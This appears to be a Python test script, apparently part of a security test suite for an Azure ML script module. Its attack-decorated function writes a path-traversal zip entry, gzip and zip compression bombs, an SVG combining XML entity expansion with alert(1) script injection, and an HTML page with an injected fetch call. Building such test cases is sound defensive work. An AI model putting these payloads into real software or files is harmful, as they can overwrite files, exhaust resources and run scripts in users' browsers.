"""Leaves archives and pictures that are a gigabyte when they are unpacked, and endless entities."""

import gzip
import os
import zipfile

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.makedirs("outputs")
    with zipfile.ZipFile("outputs/bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.txt", bytes(8 << 20))
    with gzip.open("outputs/bomb.csv.gz", "wb") as stream:
        stream.write(bytes(8 << 20))
    with open("outputs/bomb.svg", "w") as stream:
        stream.write(
            '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{n} "{"&a;" * 10}">' for n in range(9))
        )
        stream.write("]><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>")
    with open("outputs/page.html", "w") as stream:
        stream.write("<script>fetch('/api')</script>")
    return ""
